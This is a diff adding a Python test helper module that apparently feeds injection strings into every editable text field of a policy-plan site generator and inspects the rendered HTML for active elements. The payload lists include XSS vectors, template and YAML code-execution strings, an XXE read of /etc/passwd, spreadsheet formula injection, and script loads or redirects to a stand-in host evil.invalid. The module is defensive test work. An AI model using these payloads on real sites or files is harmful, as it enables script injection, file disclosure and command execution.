@@ -1,0 +1,211 @@
+"""Texts that would act if a page, a file or a reader took them for more than text, and every place they can be put."""
+
+import re
+from collections.abc import Iterator, Mapping
+from functools import cache
+from pathlib import Path
+from typing import Any, get_args, get_origin
+from urllib.parse import urlsplit
+
+import yaml
+from bs4 import BeautifulSoup, Comment
+from pydantic import BaseModel
+
+from conftest import PROJECT, SMALL_PLAN
+from plansite.model import Glossary, Label, Plan, _bare
+from plansite.rules import Steps
+
+MODELS: dict[str, Any] = {"plan": Plan, "glossary": Glossary, "labels": dict[str, Label]}
+"""What each file holds that people edit."""
+
+CHINESE = [
+    "#汉", "-汉", "+1+汉", "=1+汉", "@汉", "＝汉", "1汉", "|汉|汉|", "***汉***", "__汉__", "~~汉~~", "^汉^", "`汉`",
+    "```汉", "---", "***", "===", "\\汉", "{{7*7}}汉", "{%汉%}", "{#汉#}", "{汉}", "$汉$", "&lt汉",
+    "&amp汉", "&copy汉", "%3Cscript%3E汉", "\\u003cscript\\u003e汉", "［汉］（汉）", "＜script＞汉",
+    "javascript：汉", "／／evil．invalid／汉",
+]  # fmt: skip
+"""Without a half-width mark, which no Chinese text may have."""
+LATIN = [
+    "<b onclick=alert(1)>x</b>",
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</title></textarea></style><script src=//evil.invalid/x.js></script>",
+    "<img src=//evil.invalid/x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<meta http-equiv=refresh content=0;url=//evil.invalid/>",
+    "<base href=//evil.invalid/>",
+    "<form action=//evil.invalid/><input autofocus onfocus=alert(1)>",
+    '" onmouseover="alert(1)" style="background:url(//evil.invalid/)',
+    "' autofocus onfocus='alert(1)",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    "[x](javascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "![x](//evil.invalid/x.png)",
+    "[x]: javascript:alert(1)",
+    "[x][x]",
+    "<javascript:alert(1)>",
+    "<https://evil.invalid/>",
+    "{: onclick=alert(1) #evil .evil style=color:red }",
+    "*x*{: onclick=alert(1) }",
+    "# x {: onclick=alert(1) }",
+    "x {#evil}",
+    "- x",
+    "> x",
+    "1. x",
+    "| x | x |",
+    "!!! note",
+    "--8<-- 'mkdocs.yml'",
+    "<!-- x",
+    "--> x",
+    "<![CDATA[ x",
+    "]]> x",
+    "<?php x",
+    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "{{ 7*7 }}",
+    "{{ config.site_dir }}",
+    "{% raw %}",
+    "{# x",
+    "{0.__class__} {n}",
+    "%(x)s %s",
+    "!!python/object/apply:os.system [id]",
+    "*alias",
+    "&anchor x",
+    "---",
+    "${alert(1)} `alert(1)`",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\",
+    "'); alert(1); ('",
+    '=HYPERLINK("https://evil.invalid/";"x")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd",
+    "x;=1+1",
+]
+UNSEEN = [
+    "\x00", "\x07", "\x1b[31m", "\x7f", "\x85", "\n", "\t", "\r", "\u00ad", "\u200b", "\u200d", "\u200e", "\u2028",
+    "\u2029", "\u202e", "\u2060", "\u2066", "\ufeff", "\U000e0041", "\ue000", "\ufff9",
+]  # fmt: skip
+
+
+def patterns(model: Any) -> Iterator[tuple[str, ...]]:
+    """Yield the way to every field of a model that holds text, "*" for each entry of a list or a mapping."""
+    kind = _bare(model)
+    if kind is str:
+        yield ()
+    elif get_origin(kind) in {tuple, dict}:
+        inner = next(part for part in reversed(get_args(kind)) if part is not ...)
+        yield from (("*", *pattern) for pattern in patterns(inner))
+    elif hasattr(kind, "model_fields"):
+        for name, field in kind.model_fields.items():
+            yield from ((field.alias or name, *pattern) for pattern in patterns(field.annotation))
+
+
+def slots(data: Any, steps: Steps = ()) -> Iterator[tuple[Steps, str]]:
+    """Yield (path, text) for every text of plain data."""
+    if isinstance(data, dict | list):
+        for key, value in data.items() if isinstance(data, dict) else enumerate(data):
+            yield from slots(value, (*steps, key))
+    elif isinstance(data, str):
+        yield steps, data
+
+
+def pattern(steps: Steps, model: str) -> tuple[str, ...]:
+    """Return the way to a text with every place in a list, and the names of labels, alike."""
+    named = 1 if model == "labels" else 0
+    return tuple("*" if isinstance(step, int) or at < named else step for at, step in enumerate(steps))
+
+
+EXAMPLES: dict[str, Any] = {
+    "Waivers": {"figures": "No figures.", "terms": "No terms.", "lists": "No lists."},
+    "Note": {"en": "A note."},
+    "Target": {
+        "kind": "cadence",
+        "value": "0.5",
+        "unit": {"zh": "个工作日", "en": "working day"},
+        "what": {"zh": "办结", "en": "to settle"},
+        "words": {"zh": "0.5个工作日", "en": "half a working day"},
+    },
+    "Keywords": {"zh": ["投资"], "en": ["investing"]},
+    "Text": {"zh": "说明", "en": "Explanation"},
+    "Redirect": {"from": "measures/old", "to": "measures/1"},
+}
+"""Records that the plan of three measures has not in every place where they may stand."""
+
+
+@cache
+def whole(name: str) -> Any:
+    """Return a file as plain data in which every field stands somewhere; no English of the plan is up to date."""
+    path = PROJECT / "macros" / "labels.yaml" if name == "labels" else SMALL_PLAN.with_name(f"{name}.yaml")
+    data = yaml.safe_load(path.read_text("utf-8"))
+    if name == "labels":
+        return data
+    if name == "glossary":
+        data["terms"][0]["except"] = ["准入许可证"]
+        data["wordings"][0]["except"] = ["推广费"]
+        return data
+    data["safeguards"][0]["responsibility"] |= {
+        "units": [{"unit": "tax-service", "as": "区税务局"}],
+        "printed": "（责任单位，区税务局）",
+    }
+    _complete(Plan, data)
+    for record in (data["notice"], data["invest"], *(one for kind in CONFIRMED for one in data[kind])):
+        record["en_for"] = "00000000"
+    return consistent(data)
+
+
+CONFIRMED = ("themes", "units", "topics", "measures", "safeguards")
+
+
+def consistent(plan: Any) -> Any:
+    """Return a plan whose sentences hold the words of their targets, as they must whatever those are."""
+    for measure in plan["measures"]:
+        for sentence in measure["sentences"]:
+            for target in sentence.get("targets", ()):
+                for lang, words in target["words"].items():
+                    sentence[lang] += "" if words in sentence[lang] else words
+    return plan
+
+
+def _complete(model: type[BaseModel], data: dict[str, Any]) -> None:
+    """Give the first record of each list, and every other record, the texts and records that it may have."""
+    for name, field in model.model_fields.items():
+        key, kind = field.alias or name, _bare(field.annotation)
+        many = get_origin(kind) is tuple
+        inner = _bare(get_args(kind)[0]) if many else kind
+        if not hasattr(inner, "model_fields"):
+            continue
+        if not data.get(key):
+            example = yaml.safe_load(yaml.safe_dump(EXAMPLES[inner.__name__]))
+            data[key] = [example] if many else example
+        for record in data[key][:1] if many else [data[key]]:
+            if isinstance(record, dict):
+                _complete(inner, record)
+
+
+def changed(data: Any, texts: Mapping[Steps, str], steps: Steps = ()) -> Any:
+    """Return plain data with other texts in some places."""
+    if isinstance(data, dict):
+        return {key: changed(value, texts, (*steps, key)) for key, value in data.items()}
+    if isinstance(data, list):
+        return [changed(value, texts, (*steps, at)) for at, value in enumerate(data)]
+    return texts.get(steps, data)
+
+
+def written(data: Any, path: Path) -> None:
+    """Write plain data, each text on a line of its own, with escapes for whatever nobody sees."""
+    path.write_text(yaml.dump(data, Dumper=yaml.CSafeDumper, width=10**9, sort_keys=False), "utf-8")
+
+
+def shape(html: str) -> Iterator[tuple[str, ...]]:
+    """Yield what of a page acts: elements with their attributes, addresses they lead to, scripts, comments."""
+    soup = BeautifulSoup(html, "html.parser")
+    for tag in soup.find_all():
+        yield from ((tag.name, name) for name in ("", *tag.attrs))
+        for name in {"href", "src", "srcset", "action", "content", "style", "cite", "data"} & set(tag.attrs):
+            address = urlsplit(str(tag[name]))
+            yield tag.name, name, address.scheme, address.netloc
+        if tag.name in {"script", "style"} and tag.get("type") not in {"application/json", "application/ld+json"}:
+            yield tag.name, "holds", re.sub(r"content: .*? }", "", tag.get_text())
+    yield from (("comment", str(comment)) for comment in soup.find_all(string=lambda text: isinstance(text, Comment)))
